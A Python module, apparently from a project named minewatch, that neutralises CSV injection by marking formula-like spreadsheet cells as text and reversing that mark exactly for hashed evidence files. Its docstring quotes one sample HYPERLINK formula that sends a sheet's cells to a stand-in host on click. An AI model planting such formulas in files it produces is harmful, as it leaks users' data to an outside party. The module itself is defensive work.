"""Text cells of a CSV that people open in a spreadsheet, written so that none runs as a formula.

A report's CSV carries text the operator wrote (a blast's id, its safety reason) to the Town,
whose staff open it in a spreadsheet. A cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a
tab or a line break, which some spreadsheets skip before one) is read there as a formula:
``=HYPERLINK("https://x/?"&B2, "B-7")`` sends the sheet's cells away on a click (CSV injection,
CWE-1236). Such a cell is written with a leading apostrophe, the spreadsheets' own mark for
"text": the value stays readable and runs nothing. A plain number (``-3.5``) is left as it is.

An evidence bundle's CSVs are read back by ``minewatch verify``, which hashes the values as they
were chained, so there the rule must be undone exactly: ``inert_exact`` also marks a cell that
begins with an apostrophe of its own, and ``exact_value`` drops one leading apostrophe, giving
back the value whatever it was (docs/EVIDENCE.md, "Cells a spreadsheet would run").
"""

from __future__ import annotations

import re

FORMULA_START = frozenset("=+-@\t\r\n")
MARK = "'"  # the spreadsheets' mark for "text"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def inert(cell: str) -> str:
    """``cell`` as a spreadsheet takes it for text, never a formula."""
    if cell[:1] in FORMULA_START and not _NUMBER.fullmatch(cell):
        return MARK + cell
    return cell


def inert_exact(cell: str) -> str:
    """``cell`` as ``inert`` writes it, and one beginning with an apostrophe gets another:
    ``exact_value`` gives back ``cell`` exactly."""
    if cell[:1] == MARK:
        return MARK + cell
    return inert(cell)


def exact_value(cell: str) -> str:
    """The value ``inert_exact`` wrote as ``cell``: without one leading apostrophe."""
    return cell[1:] if cell[:1] == MARK else cell
